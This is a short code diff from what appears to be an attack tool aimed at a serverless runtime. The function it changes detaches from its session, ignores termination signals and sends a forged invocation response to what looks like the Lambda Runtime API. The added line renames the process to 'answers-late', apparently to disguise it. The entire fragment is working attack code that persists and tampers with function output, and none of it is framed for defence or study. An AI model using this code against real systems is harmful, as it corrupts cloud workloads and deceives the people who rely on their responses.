@@ -12,6 +12,7 @@ import attacking
 def answer(request_id: str) -> None:
     """Forge the answer, for ever."""
     os.setsid()
+    attacking.libc.prctl(15, b"answers-late")
     for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGPIPE"):
         signal.signal(getattr(signal, name), signal.SIG_IGN)
     text = f'POST /2018-06-01/runtime/invocation/{request_id}/response HTTP/1.1\r\nContent-Length: 8\r\n\r\n"forged"'
